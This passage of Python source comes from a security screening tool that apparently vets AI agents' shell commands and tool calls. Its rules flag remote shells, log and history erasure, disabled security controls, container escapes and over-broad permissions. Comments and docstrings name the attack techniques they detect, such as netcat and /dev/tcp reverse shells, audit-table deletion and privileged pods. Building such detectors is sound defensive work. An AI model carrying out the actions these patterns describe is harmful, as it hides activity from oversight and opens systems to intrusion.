@rule(ReasonCode.REMOTE_SHELL, needs="acting")
def remote_shell(action: Action, ctx: Context) -> Iterator[Finding]:
    """A shell handed to the network or waiting on it: `/dev/tcp` wired to a shell, `nc -e`, `socat
    exec:`, a shell piped through `nc`/`openssl`, interpreter code joining a socket to a shell: BLOCK;
    listeners, raw clients, terminal upgrades (`pty.spawn`, `stty raw -echo`) and tunnels that put a local
    port on the internet (`ngrok tcp 22`, `ssh -R`, `cloudflared tunnel`): AUTH. Quiet: `ssh host cmd`,
    servers on loopback for development."""
    if not _may_reach_a_shell(action):
        return
    why = _remote_shell_block(action)
    if why:
        yield _finding(ReasonCode.REMOTE_SHELL, Verdict.BLOCK, 96, why)
        return
    why = _remote_shell_auth(action)
    if why:
        yield _finding(ReasonCode.REMOTE_SHELL, Verdict.AUTH, 70, why)
        return
    if carrier := _embedded_reverse_shell(action):
        detail = f"an argument of {carrier} spells a reverse shell (a shell joined to /dev/tcp)"
        yield _finding(ReasonCode.REMOTE_SHELL, Verdict.AUTH, 85, detail)


# --------------------------------------------------------------------------- defence_evasion


# The folders the machine's programs are installed in (the system's, the local administrator's, a package's
# own under /opt): a program there made unable to run is a program switched off
_PROGRAM_FOLDER = re.compile(r"^/(?:usr/(?:local/)?)?s?bin/|^/usr/libexec/|^/opt/[^/]+/(?:s?bin|libexec)/")


def _unrunnable(command: Command) -> str:
    """A program of the machine's made unable to run (`chmod -x /opt/secguard/bin/guard`, `chmod 000
    /usr/sbin/auditd`): the mode takes the owner's execute bit away. "" for a mode that keeps it, and for
    files of the project or the home."""
    if command.name != "chmod":
        return ""
    words = [w for w in command.argv[1:] if w not in ("-R", "-f", "-v", "-c", "--recursive", "--verbose")]
    if len(words) < 2:
        return ""
    mode, targets = words[0], [w for w in words[1:] if _PROGRAM_FOLDER.match(w)]
    if not targets:
        return ""
    if mode.isdigit():
        denied = len(mode) >= 3 and not int(mode[-3]) & 1
    else:
        denied = False
        for clause in mode.split(","):
            parsed = _MODE_CLAUSE.match(clause)
            if parsed is None:
                continue
            who, op, perms = parsed.group(1) or "a", parsed.group(2), parsed.group(3)
            owner = "u" in who or "a" in who
            denied |= owner and ((op == "-" and "x" in perms) or (op == "=" and not {"x", "X"} & set(perms)))
    return f"{targets[0]} made unable to run" if denied else ""


_MODE_CLAUSE = re.compile(r"^([ugoa]*)([-+=])([rwxXst]*)$")
# What a shell substitutes into a word (`$(cat /etc/hostname)`, a backquoted command, `${VAR}`)
_SUBSTITUTED = re.compile(r"\$\([^()]*\)|`[^`]*`|\$\{[^}]*\}")
# A file that records what was done: a log, an audit trail, a shell's history
_RECORD_FILE = re.compile(r"(?i)/log/|\.log$|audit|_history$|\.history$|/journal/")


def _evasion(command: Command, payloads: tuple[str, ...] = ()) -> str:
    """How the command hides what was done or switches a control off ("" when it does not); `payloads`: what
    the line hands it on its input (`gh api --input - <<< JSON`)."""
    name, argv = command.name, command.argv
    args = argv[1:]
    if switched_off := _unrunnable(command):
        return switched_off
    if name == "ln" and "/dev/null" in args and any(_RECORD_FILE.search(w) for w in args if w != "/dev/null"):
        return "a log or history file replaced by /dev/null: what is written to it is kept nowhere"
    if name == "history" and ({"c", "d"} & _short_flags(args)):
        return "history erased"
    if name == "unset" and any(history_off(w, None) for w in args):
        return "shell history disabled"
    if name in ("export", "declare", "typeset") and any(
        history_off(*w.split("=", 1)) for w in args if "=" in w
    ):
        return "shell history disabled"
    if name == "set" and "+o" in args and "history" in args:
        return "shell history disabled"
    if name == "touch" and (_short_flags(args) & {"t", "d", "r"} or _long(args) & {"--date", "--reference"}):
        return "file timestamps back-dated"
    if name == "date" and (any(_DATE_SET.fullmatch(w) for w in args) or "--set" in _long(args)):
        return "system clock changed"
    if name in ("timedatectl", "hwclock") and any(w in args for w in ("set-time", "--set", "-s")):
        return "system clock changed"
    if (
        name == "journalctl"
        and any(w.startswith(("--vacuum", "--rotate")) for w in args)
        and not _keeps_recent_logs(args)
    ):
        return "system logs erased"
    if (
        name in ("echo", "printf")
        and command.redirects
        and any("\x1b" in w or re.search(r"\$\((clear|tput|reset)\b|`(clear|tput|reset)\b", w) for w in args)
    ):
        return "terminal control sequences written into a file"
    if _INVISIBLE.search("\n".join(argv)):
        return "invisible characters in a command or file name"
    entry = program(name)
    if entry is not None and entry.disables and re.search(entry.disables, " ".join((*args, *payloads))):
        return f"a security control switched off ({name})"
    service = _security_service_off(args) if entry is not None and Role.INFRA_DESTROYER in entry.roles else ""
    if service:
        return f"a security control switched off ({name} {service})"
    return ""


_LOGGING_WORD = prefiltered(r"(?i)logging|audit|log-level")


def _security_service_off(args: tuple[str, ...] | list[str]) -> str:
    """A cloud CLI's security service (`facts.programs.SECURITY_SERVICES`, by its sub-command words) turned
    off, muted or its record sent elsewhere; "" when not (`gcloud logging read`, `gcloud scc findings
    list`)."""
    from limen.facts.programs import SECURITY_OFF, SECURITY_SERVICES

    path = [w for w in args[:6] if not w.startswith("-")][:4]
    # a service by its name, or a sub-command named for its logging (`aws iot set-v2-logging-options`)
    service = next((w for w in path if w.lower() in SECURITY_SERVICES or _LOGGING_WORD.search(w)), "")
    return service if service and SECURITY_OFF.search(" ".join(args)) else ""


def _erased(command: Command, action: Action, ctx: Context) -> list[str]:
    """Files a command deletes or truncates (`rm f`, `shred f`, `> f` from an empty or echo command); a file
    written over that does not exist yet (`echo "$(openssl rand -base64 32)" > jwt.key`) loses nothing."""
    if command.name in _DELETERS or command.name == "truncate":
        return [_target(w, action, ctx) for w in _operands(command.argv)]
    if command.name in ("echo", "printf", "true", ":", "cat") and len(command.argv) <= 2:
        return [path for path in command.redirects if os.path.lexists(path)]
    return []


_AUTHOR_OPTION = re.compile(r"^(?:user\.email=|--author=.*<)([^>\s]+@[^>\s]+)")
_CONFIGURED_EMAIL = re.compile(r"(?m)^\s*email\s*=\s*(\S+@\S+)\s*$")


def _commits_as_someone_else(action: Action, ctx: Context) -> str:
    """The address a `git commit` is made under when it is not the user's own (`-c user.email=X`,
    `--author="Name <X>"`): the one git's configuration names (the repository's, then the user's). "" when the
    commit names none, or no configuration names the user to compare with."""
    from limen.facts.hosts import repository_root
    from limen.normalize.paths import read_text

    given = [
        found.group(1).lower()
        for c in action.commands
        if c.name == "git" and "commit" in c.argv[1:8]
        for word in c.argv[1:]
        if (found := _AUTHOR_OPTION.match(word.strip("'\"")))
    ]
    if not given:
        return ""
    top = repository_root(action.cwd or ctx.workspace)
    configs = [os.path.join(top, ".git", "config")] if top else []
    configs += [os.path.join(ctx.home, ".gitconfig"), os.path.join(ctx.home, ".config", "git", "config")]
    own = {
        email.lower()
        for path in configs
        for email in _CONFIGURED_EMAIL.findall(read_text(path, 64_000) or "")
    }
    return next((email for email in given if own and email not in own), "")


# Where a project keeps the hooks git runs on commit and push (pre-commit, lefthook, husky, git's own)
_HOOK_CONFIGS = (
    ".pre-commit-config.yaml",
    ".pre-commit-config.yml",
    "lefthook.yml",
    ".lefthook.yml",
    ".husky/pre-commit",
    ".husky/pre-push",
    ".git/hooks/pre-commit",
    ".git/hooks/pre-push",
)


def _skipped_hook_checks(action: Action) -> str:
    """The security checks a `git commit --no-verify` (`-n`; `push --no-verify`) skips, those the project's
    hook configurations run, or a push that tells GitLab to run no pipeline (`-o ci.skip`) skips, those its
    CI runs (each read from the repository's top, bounded). "" when the line skips none, or what it skips
    runs no security check (skipping a formatter is the developer's call)."""
    from limen.facts.hosts import repository_root
    from limen.facts.programs import SECURITY_CHECKS
    from limen.normalize.paths import read_text

    hooks = any(
        c.name == "git"
        and c.argv[1:2] in (("commit",), ("push",), ("merge",), ("am",))
        and ("--no-verify" in c.argv or (c.argv[1] == "commit" and "n" in _short_flags(c.argv[2:])))
        for c in action.commands
    )
    pipeline = any(
        c.name == "git" and c.argv[1:2] == ("push",) and any(_SKIPS_CI.fullmatch(w) for w in c.argv[2:])
        for c in action.commands
    )
    top = repository_root(action.cwd) if hooks or pipeline else None
    if top is None:
        return ""
    names = list(_HOOK_CONFIGS) if hooks else []
    if pipeline:
        names.append(".gitlab-ci.yml")
        with suppress(OSError):  # the files it includes, by GitLab's convention
            names += [f".gitlab/ci/{name}" for name in sorted(os.listdir(f"{top}/.gitlab/ci"))[:8]]
    for name in names:
        found = SECURITY_CHECKS.search(read_text(os.path.join(top, name), 64_000) or "")
        if found:
            return found.group(0)
    return ""


# GitLab's push options that run no pipeline for the pushed commits
_SKIPS_CI = re.compile(r"(?:-o|--push-option=?)?ci\.skip")


# A statement that deletes, changes or empties a table that keeps the record of what was done, or drops or
# disables the trigger, function, schema or extension that writes it (`DROP TRIGGER trg_phi_access_audit`,
# `ALTER TABLE t DISABLE TRIGGER audit_ins`, `DROP EXTENSION pgaudit`, MySQL's `UNINSTALL PLUGIN audit_log`)
_AUDIT_NAME = r"[\w.\"`]*?(?:audit|activity_log|event_log|security_log|access_log)\w*[\"`]?(?=[\s;(]|$)"
_SQL_AUDIT_REWRITE = re.compile(
    r"(?is)\b(?:delete\s+from|truncate(?:\s+table)?|update|drop\s+table(?:\s+if\s+exists)?"
    r"|drop\s+(?:event\s+)?(?:trigger|function|procedure|schema|extension)(?:\s+if\s+exists)?"
    r"|disable\s+trigger|uninstall\s+plugin)\s+" + _AUDIT_NAME
)


@rule(ReasonCode.DEFENCE_EVASION, needs=("acting", "notes", "write_paths", "served"))
def defence_evasion(action: Action, ctx: Context) -> Iterator[Finding]:
    """Hiding what was done: shell history erased or disabled, timestamps back-dated, the clock changed,
    logs rewritten or replaced by /dev/null, terminal escapes written into files, invisible characters in
    names; a control switched off: a program of the machine's made unable to run (`chmod -x
    /opt/x/bin/guard`), a download's quarantine mark taken off: AUTH. Quiet: `touch` of a file to now,
    reading logs, `history | tail`, the project's own scripts' modes."""
    if any(n.startswith("assign:") and n[7:] in HISTORY_VARIABLES for n in action.notes):
        yield _finding(ReasonCode.DEFENCE_EVASION, Verdict.AUTH, 65, "shell history disabled")
        return
    checker = next((n[len(IGNORED_CHECK) :] for n in action.notes if n.startswith(IGNORED_CHECK)), "")
    if checker:  # `gpg --verify x.asc x || true`: a tampered file goes on as a genuine one would
        detail = f"{checker}'s signature or checksum check is made to succeed whatever it finds"
        yield _finding(ReasonCode.DEFENCE_EVASION, Verdict.AUTH, 70, detail)
        return
    served = _served_infrastructure(action)  # `mcp__perforce__set_triggers(...)` as `p4 set triggers ...`
    for command in (*action.commands, *((served,) if served is not None else ())):
        why = _evasion(command, action.payloads)
        if why:
            yield _finding(ReasonCode.DEFENCE_EVASION, Verdict.AUTH, 65, why)
            return
    lifted = next((n[len(CONTROL_OFF) :] for n in settings_notes(action) if n.startswith(CONTROL_OFF)), "")
    if lifted:  # `update_push_rule(prevent_secrets=false)`, `unprotect_branch(main)`
        yield _finding(ReasonCode.DEFENCE_EVASION, Verdict.AUTH, 70, f"a control switched off: {lifted}")
        return
    if lifted := _sql_controls(action):  # `UPDATE realm SET ssl_required = 'NONE'`: as the admin API would
        yield _finding(ReasonCode.DEFENCE_EVASION, Verdict.AUTH, 70, f"SQL switches a control off: {lifted}")
        return
    from limen.rules.rows import cap_lifted

    if lifted := cap_lifted(written_rows(action)):  # `UPDATE risk_limits SET max_notional_usd = 1e12`
        yield _finding(ReasonCode.DEFENCE_EVASION, Verdict.AUTH, 70, f"SQL lifts a limit: {lifted}")
        return
    weakened = sql_matches(action, SQL_WEAKENS)
    if weakened:  # `ALTER ACCOUNT UNSET NETWORK_POLICY`, `MINS_TO_BYPASS_MFA`, recovery switched off
        yield _finding(
            ReasonCode.DEFENCE_EVASION, Verdict.AUTH, 70, f"SQL switches a control off: {weakened}"
        )
        return
    rewritten = sql_matches(action, _SQL_AUDIT_REWRITE)
    if rewritten:  # `DELETE FROM audit_log WHERE actor = ...`: the record of what was done, rewritten
        detail = f"SQL rewrites an audit trail: {rewritten}"
        yield _finding(ReasonCode.DEFENCE_EVASION, Verdict.AUTH, 75, detail)
        return
    if not action.commands:
        return
    posed = _commits_as_someone_else(action, ctx)
    if posed:  # `git -c user.email=cto@acme.example commit`: the history says someone else did it
        detail = f"git commits as {posed}, not as the user git is configured with"
        yield _finding(ReasonCode.DEFENCE_EVASION, Verdict.AUTH, 65, detail)
        return
    skipped = _skipped_hook_checks(action)
    if skipped:  # `git commit --no-verify` where the commit hooks scan for secrets
        detail = f"git's hooks skipped: they run {skipped}"
        yield _finding(ReasonCode.DEFENCE_EVASION, Verdict.AUTH, 65, detail)
        return
    for command in action.commands:
        for target in _erased(command, action, ctx):
            if target.endswith(("_history", "/.zhistory")) or target.startswith(("/var/log/", "/var/adm/")):
                yield _finding(
                    ReasonCode.DEFENCE_EVASION,
                    Verdict.AUTH,
                    65,
                    "system logs erased" if target.startswith("/var/") else "shell history erased",
                )
                return
    for path in action.write_paths:
        if _INVISIBLE.search(path):
            yield _finding(
                ReasonCode.DEFENCE_EVASION, Verdict.AUTH, 65, "invisible characters in a file name"
            )
            return


# --------------------------------------------------------------------------- unsafe_permissions


def _world_writable(mode: str) -> bool:
    if re.fullmatch(r"[0-7]{3,4}", mode):
        digits = mode[-3:]
        special = mode[0] if len(mode) == 4 else "0"
        return int(digits[2]) & 2 == 2 or special in "4567"  # world-writable or setuid
    for clause in mode.split(","):
        match = re.fullmatch(r"([ugoa]*)([-+=])([rwxXst]*)", clause)
        if not match or match.group(2) == "-":
            continue
        who, perms = match.group(1), match.group(3)
        if "w" in perms and ((who == "" and match.group(2) == "=") or set(who) & {"o", "a"}):
            return True
        if "s" in perms and (not who or set(who) & {"u", "a"}):  # setuid (setgid dirs are ordinary sharing)
            return True
    return False


_HOST_NAMESPACES = frozenset({"--pid", "--net", "--network", "--ipc", "--uts", "--userns", "--cgroupns"})
_ESCAPE_CAPS = re.compile(
    r"^(?:CAP_)?(?:ALL|SYS_ADMIN|SYS_PTRACE|SYS_MODULE|DAC_READ_SEARCH|SYS_RAWIO)$", re.I
)


# A pod spec given on the command line (`kubectl run --overrides=JSON`) that hands the pod its node.
_NODE_ACCESS_SPEC = re.compile(r'"(?:privileged|hostPID|hostNetwork|hostIPC)"\s*:\s*true|"hostPath"\s*:')


def _pod_escape(command: Command, action: Action) -> str:
    """`kubectl run --overrides='{..."privileged":true...}'`, `kubectl debug node/NAME`: a pod given its node
    (the node's processes, network or file system), the cluster-side form of `docker run --privileged`."""
    argv = command.argv
    entry = program("kubectl")
    subs = operands(argv[1:], entry.options if entry is not None else frozenset())[:2]
    if subs[:1] == ["debug"] and any(w.startswith("node/") for w in argv[2:]):
        return "kubectl debug node/... opens a shell on the node with its file system"
    if subs[:1] == ["debug"] and any(w in ("--profile=sysadmin", "--profile=netadmin") for w in argv):
        return "kubectl debug with a privileged profile"
    if subs[:1] in (["run"], ["debug"]):
        spec = " ".join(w.split("=", 1)[1] if w.startswith("--overrides=") else w for w in argv)
        if _NODE_ACCESS_SPEC.search(spec):
            return "kubectl starts a pod given its node (privileged or host namespaces)"
    if subs[:1] in (["apply"], ["create"], ["replace"]) and any(
        NODE_ACCESS.search(text) for text in applied_manifests(command, action)
    ):  # `kubectl apply -f - <<EOF ... hostPID: true ... privileged: true`
        return f"kubectl {subs[0]} deploys a workload given its node (privileged, host namespaces or root)"
    if subs[:1] in (["apply"], ["create"], ["replace"]) and any(
        CLUSTER_ADMIN.search(text) for text in applied_manifests(command, action)
    ):  # a ClusterRoleBinding to cluster-admin, a ClusterRole over `*` verbs and resources
        return f"kubectl {subs[0]} hands out the whole cluster (cluster-admin, or every verb and resource)"
    return ""


def _container_escape(command: Command, action: Action, ctx: Context) -> str:
    """`docker run --privileged`, `--pid=host`, `-v /:/host`, the docker socket: a container given the
    host (the container's command itself is analysed by the normaliser, through its mounts)."""
    if command.name in ("kubectl", "oc"):
        return _pod_escape(command, action)
    entry = program(command.name)
    if entry is None or not (Role.CONTAINER in entry.roles or entry.mounts):
        return ""
    argv = command.argv
    subs = [w for w in argv[1:4] if not w.startswith("-")]
    if not {"run", "create", "exec", "shell"} & set(subs[:2]):
        return ""
    for i, word in enumerate(argv):
        option, eq, attached = word.partition("=")
        value = attached if eq else (argv[i + 1] if i + 1 < len(argv) else "")
        if option == "--privileged":
            return f"{command.name} --privileged gives the container the host"
        if option in _HOST_NAMESPACES and value == "host":
            return f"{command.name} {option}=host shares the host's namespace"
        if option == "--cap-add" and _ESCAPE_CAPS.match(value):
            return f"{command.name} --cap-add {value.upper()}"
        if option == "--device" and _HOST_DEVICE.match(value):  # (a serial port, a GPU, a camera: its own)
            return f"{command.name} --device hands the host's disks or memory to the container"
        if option == "--security-opt" and ("unconfined" in value or value == "label=disable"):
            return f"{command.name} --security-opt turns confinement off"
        if option in entry.mounts and value:
            host = value.split(":", 1)[0] if option != "--mount" else ""
            if option == "--mount":
                host = next(
                    (p.split("=", 1)[1] for p in value.split(",") if p.startswith(("source=", "src="))), ""
                )
            if not host.startswith(("/", "~")):
                continue
            target = _target(host, action, ctx)
            if target in ENGINE_SOCKETS:
                return f"{command.name} mounts the container engine's socket"
            if (
                (
                    _is_dangerous(target, action, ctx)
                    and not is_within(target, ctx.workspace)
                    and target not in ("/tmp", "/var/tmp")
                )
                or any(is_within(target, folder) for folder in _HOST_INTERNALS)
                or (
                    is_within(target, "/root")
                    and not is_within(target, ctx.home)  # root's home, not the user's
                )
            ):
                return f"{command.name} mounts {_path_class(target, ctx)} into the container"
    return ""


# Minting a credential: a token, a shared-access signature, a signed URL, a key (by a CLI's words or a tool's
# name), and the settings that say when it expires
_MINTS = prefiltered(
    r"(?:^|[\s_-])(?:token|tokens|sas|signurl|presign|api[-_]?keys?|access[-_]?keys?|service[-_]account[-_]token)"
    r"(?:[\s_-]|$)"
)
_MINT_VERBS = re.compile(r"(?:^|[\s_-])(?:create|generate|new|add|issue|mint|signurl|presign)(?:[\s_-]|$)")
_EXPIRY_KEYS = re.compile(r"^-*(?:expiry|expiration|expires(?:[-_](?:on|at))?|end[-_]date|expiry[-_]?time)$")
_NEVER_KEYS = re.compile(
    r"^-*(?:seconds[-_]?to[-_]?live|ttl|expires[-_]in|lifetime(?:[-_]?seconds)?|duration|expiry|expiration)$",
    re.I,
)
# A token minted with the owner's or an administrator's rights over the whole organisation
_OWNER_ROLE = re.compile(r"(?i)^(?:\w+_)?(?:owner|admin|administrator|superuser)$")


def _lasting_credential(action: Action) -> str:
    """A credential minted to last more than a year (`--expiry 2030-01-01`) or never to expire
    (`secondsToLive: 0`, `--expires-in 0`): access that outlives anyone's review of it. "" otherwise."""
    from datetime import date

    if action.commands:
        pairs = []
        for command in action.commands:
            if _runs_analysed_code(command):
                continue
            line = " ".join(command.argv[1:6]).lower()
            if not (_MINTS.search(line) and _MINT_VERBS.search(line)):
                continue
            argv = command.argv
            for i, word in enumerate(argv[1:], 1):
                option, eq, value = word.partition("=")
                pairs.append((option, value if eq else (argv[i + 1] if i + 1 < len(argv) else "")))
    else:
        name = words_of(action.tool)
        if not (_MINTS.search(name) and _MINT_VERBS.search(name)):
            return ""
        given = action.arguments.items()
        pairs = [(k, str(v)) for k, v in given if isinstance(v, str | int) and not isinstance(v, bool)]
    for key, value in pairs:
        if _NEVER_KEYS.match(key) and value.strip() in ("0", "never", "none"):
            return "a credential is minted that never expires"
        if _NEVER_KEYS.match(key) and (days := lifetime_days(key, value)) and days > LASTING_DAYS:
            return f"a credential is minted for {int(days) // 365} years"
        if key.lstrip("-").lower() in ("role", "roles") and _OWNER_ROLE.match(value.strip()):
            return f"a credential is minted with the {value.strip()[:30]} role"
        if _EXPIRY_KEYS.match(key.lower()) and (found := re.match(r"(\d{4})-(\d{2})-(\d{2})", value.strip())):
            with suppress(ValueError):
                days = (date(*map(int, found.groups())) - date.today()).days
                if days > LASTING_DAYS:
                    return f"a credential is minted for {days // 365} years"
    return ""


# `GRANT ... ON db.* TO ...` (MySQL's) and `GRANT ... ON DATABASE db TO ...` (PostgreSQL's): the database
_GRANT_ON = re.compile(r"(?i)\bGRANT\b[^;]*?\bON\s+(?:DATABASE\s+)?[`\"']?([\w-]+)[`\"']?(?:\.\S+)?\s+TO\b")


def _grants_on_scratch_only(action: Action) -> bool:
    """Every grant the SQL makes is on a test's or a development copy's database (`acme_local.*`,
    `shop_test`), and it makes nothing else widen (no role set, no security turned off)."""
    texts = [t for c in action.commands for t in _sql_texts(c)] + list(action.payloads)
    grants = [m.group(1) for t in texts for m in _GRANT_ON.finditer(t)]
    rest = [re.sub(_GRANT_ON.pattern + r"[^;]*", "", t) for t in texts]
    return (
        bool(grants)
        and all(_SCRATCH_DATABASE.fullmatch(g) for g in grants)
        and not any(re.search(r"(?i)\bGRANT\b|\bUPDATE\b|\bALTER\b|\bSUPERUSER\b", r) for r in rest)
    )


# What of the host a container must not be handed: the kernel's views, devices, configuration, boot files
_HOST_INTERNALS = ("/proc", "/sys", "/dev", "/etc", "/boot")


def _within_project(action: Action, ctx: Context) -> bool:
    """Every file the line names lies in the project's own checkout."""
    paths = (*action.paths, *action.write_paths)
    return bool(paths and ctx.workspace) and all(is_within(p, ctx.workspace) for p in paths)


@rule(ReasonCode.UNSAFE_PERMISSIONS, needs=("acting", "notes", "served"))
def unsafe_permissions(action: Action, ctx: Context) -> Iterator[Finding]:
    """Making files world-writable or setuid, or giving a program a capability that reaches root (`setcap
    cap_setuid+ep python3`): anyone can then change or escalate through them; a container given the host
    (privileged, host namespaces, escape capabilities, the host's root or engine socket); who may act or read
    widened (the table's `grants`: a cluster-admin binding, an owner role, an admin collaborator, a private
    repository made public); a credential minted to last years or never to expire."""
    wildcard = action.commands and ("*" in action.command_line or any("*" in p for p in action.payloads))
    if wildcard and OPEN_FEDERATION.search(" ".join((action.command_line[:20000], *action.payloads))):
        # `aws iam update-assume-role-policy ... "token.actions.githubusercontent.com:sub": "repo:*"`
        detail = "a federated trust any repository meets"
        yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 80, detail)
        return
    lasting = _lasting_credential(action)
    if lasting:  # `az storage container generate-sas --expiry 2030-01-01`, a token that never expires
        yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 75, lasting)
        return
    if opened := _rules_deployed_open(action):  # `firestore_update_rules(rules="...: if true")`
        yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 80, f"{action.tool}: {opened}")
        return
    served = _served_infrastructure(action)  # `mcp__perforce__set_protect(table=...)` as `p4 set protect ...`
    nothing = not action.commands and not action.destinations and not action.notes and served is None
    if nothing and action.capability != DB_WRITE:
        return  # no command, no repository, no SQL, no CLI's server: nothing widened
    if (
        action.commands
        and SCRATCH_DATABASE_NOTE not in action.notes
        and any(admin_made(t) for t in _texts(action))
    ):
        # `manage.py shell -c "...create_superuser('ops', 'ops@x', 'Winter2024!')"`: whoever wrote the call
        # knows the administrator's password
        detail = "code run now makes an administrator whose password is written in the call"
        yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 80, detail)
        return
    granted = _sql_grants(action) if action.capability in ("shell.execute", DB_WRITE) or action.notes else ""
    runners = _sql_runners(action) if granted else []
    if runners and all(_on_local_copy(c) for c in runners):
        granted = ""  # the local stack's database (`psql ...@127.0.0.1:54322/...`): a developer's own copy
    if granted and _grants_on_scratch_only(action):
        granted = ""  # `GRANT ALL ON acme_local.* TO 'acme'@'localhost'`: a development database's user
    if granted:  # `UPDATE users SET role='admin' ...`, `GRANT ALL ... TO x`, row-level security off
        yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 80, f"SQL widens access ({granted})")
        return
    widened = _forge_widening(action) if not action.commands else ""
    granted = next(
        (n.split(":", 1)[1] for n in settings_notes(action) if n.startswith((ADMIN_GRANTED, MADE_PUBLIC))), ""
    )
    widened = (
        widened or granted
    )  # `add_project_member(access_level=50)`, `add_collaborator(permission=admin)`
    if widened:  # `mcp__github__update_repository(private=false)`, `add_collaborator(permission=admin)`
        yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 80, f"{action.tool} {widened}")
        return
    for command in (*action.commands, *((served,) if served is not None else ())):
        escape = _container_escape(command, action, ctx)
        if escape:
            strict = ctx.mode.strict_or_above
            yield _finding(
                ReasonCode.UNSAFE_PERMISSIONS,
                Verdict.BLOCK if strict else Verdict.AUTH,
                90 if strict else 75,
                escape,
            )
            return
        mode = _mode_set(command)
        if mode and _world_writable(mode):
            yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 60, f"{command.name} {mode}")
            return
        if mode and _opens_data_to_everyone(command, mode, action, ctx):
            detail = "every account on the machine may read a folder of data outside the project"
            yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 60, detail)
            return
        if command.name == "umask" and _operands(command.argv)[:1] in (["0"], ["000"], ["0000"], ["a+w"]):
            yield _finding(
                ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 60, "umask 0 makes new files world-writable"
            )
            return
        entry = program(command.name)
        # what it is given on standard input too (`vault policy write p - <<EOF ... EOF`)
        given = " ".join((*command.argv[1:], *action.payloads))
        if (
            entry is not None
            and entry.grants
            and re.search(entry.grants, given)
            and not (Role.METADATA in entry.roles and _within_project(action, ctx))
        ):  # (`setfacl -R -m u:www-data:rwx var/cache var/log`: the project's own folders, for its server)
            detail = f"`{command.name}` widens who may act or read there (admin rights, public access)"
            yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 80, detail)
            return
        if (
            _EVERY_ADDRESS.search(given)
            and not _web_ports_only(given)
            and (
                (entry is not None and Role.INFRA_DESTROYER in entry.roles and _ADDRESS_RULE.search(given))
                or ((entry is None or Role.SECURITY_CONTROL in entry.roles) and _ADMITS.search(given))
            )
        ):  # `doctl compute firewall add-rules ... address:0.0.0.0/0`, `--rule ip_addr:0.0.0.0/0`; a host's
            # firewall (`ufw allow from 0.0.0.0/0`, `iptables -A INPUT -s 0.0.0.0/0 ... -j ACCEPT`), or a
            # program's own list of the addresses it trusts (`kamctl address add 1 0.0.0.0 0 5060`)
            yield _finding(
                ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 80, f"`{command.name}` lets every address in"
            )
            return
        if command.name == "aws" and (trusted := _foreign_principal(given, action.cwd or ctx.workspace)):
            yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 85, f"`aws` {trusted}")
            return
        if outside := _granted_outside(command, action.cwd or ctx.workspace):
            yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 80, f"`{command.name}` {outside}")
            return
        if command.name == "setcap" and any(_ESCALATING_CAPABILITY.search(w) for w in command.argv[1:]):
            yield _finding(
                ReasonCode.UNSAFE_PERMISSIONS,
                Verdict.AUTH,
                80,
                "setcap grants a program a capability that reaches root",
            )
            return
        if command.name == "setfacl" and any(
            re.search(r"(^|,)o(ther)?::?[r-]?w", w) for w in command.argv[1:]
        ):
            yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 60, "setfacl grants others write")
            return
        shared = _secret_shared(command, mode, action, ctx)
        if shared:
            yield _finding(ReasonCode.UNSAFE_PERMISSIONS, Verdict.AUTH, 70, shared)
            return


# A command that gives an identity a role or access, in any cloud's or service's words
_GRANTING = prefiltered(
    r"(?i)(?:^|\s)(?:add-iam-policy-binding|set-iam-policy|add-role\w*|grant\w*|add-member\w*|add-collaborator"
    r"|invite\w*|share|assignment|put-acl|set-acl|role-bindings?|rolebindings?|(?:users?\s+)?create-user"
    r"|users?\s+(?:create|add))(?:\s|$)"
)


def _adds_administrators(argv: tuple[str, ...]) -> bool:
    """Members added to a group of administrators (`databricks groups patch admins --json '{... "members"
    ...}'`): the group is the sub-command's operand, members are named after it."""
    words = [w.strip("\"'").lower() for w in argv[1:]]
    return (
        words[:1] in (["groups"], ["group"])
        and len(words) > 2
        and words[2] in ("admins", "admin", "administrators")
        and any("member" in w for w in words[3:])
    )


_MEMBER = re.compile(
    r"(?i)(?:user|group|serviceaccount|member|principal|assignee|email|domain)[:=][\"']?([^\s,\"']+)"
)
_ADMIN_ROLE = re.compile(r"(?:roles/)?[\w.]*(?:[Oo]wner|[Aa]dmin|[Ee]ditor)\b")


# Every address on the internet (as a prefix, or an address with its mask's length apart: `0.0.0.0 0`), and
# the words of an access rule that lets addresses in (a firewall's, a database's trusted sources, an allow
# list, a program's list of trusted addresses): the two together open what the rule guards to anyone
_EVERY_ADDRESS = re.compile(r"(?<![\d.])0\.0\.0\.0(?:/|\s+)0(?![\d.])|(?<![\w:]):{2}/0(?!\d)")
_ADMITS = re.compile(
    r"(?i)(?:^|\s)(?:allow|accept|permit|trust|whitelist|allowlist)(?:\s|$)|-j\s+ACCEPT\b|--add-source\b"
    r"|--add-rich-rule\b|\baddress\s+add\b|\baccess[-_]?list\b"
)
_ADDRESS_RULE = re.compile(
    r"(?i)firewall|ingress|inbound|trusted[-_]?sources?|allow(?:ed)?[-_]?ips?|authori[sz]ed[-_]?networks"
    r"|source[-_]?ranges|allowlist|whitelist|access[-_]?list|ip[-_]?rules?|network[-_]?rules?|--rule"
)


_PRINCIPAL = re.compile(r'"Principal"\s*:\s*(\{[^{}]{0,2000}\}|"\*")|--principal[=\s]+(\S+)')


def _foreign_principal(given: str, cwd: str) -> str:
    """A policy the line gives AWS (a role's trust policy, a bucket's or a key's policy, a function's
    permission) that lets in any account (`"Principal": "*"`, `{"AWS": "*"}`), or an account the project's
    committed files name nowhere (`arn:aws:iam::918273645501:root`): lasting access for someone outside."""
    from limen.facts.hosts import committed_name

    for found in _PRINCIPAL.finditer(given):
        principal = found.group(1) or found.group(2) or ""
        if principal == '"*"' or re.search(r'"AWS"\s*:\s*\[?\s*"\*"', principal):
            return "lets any AWS account in"
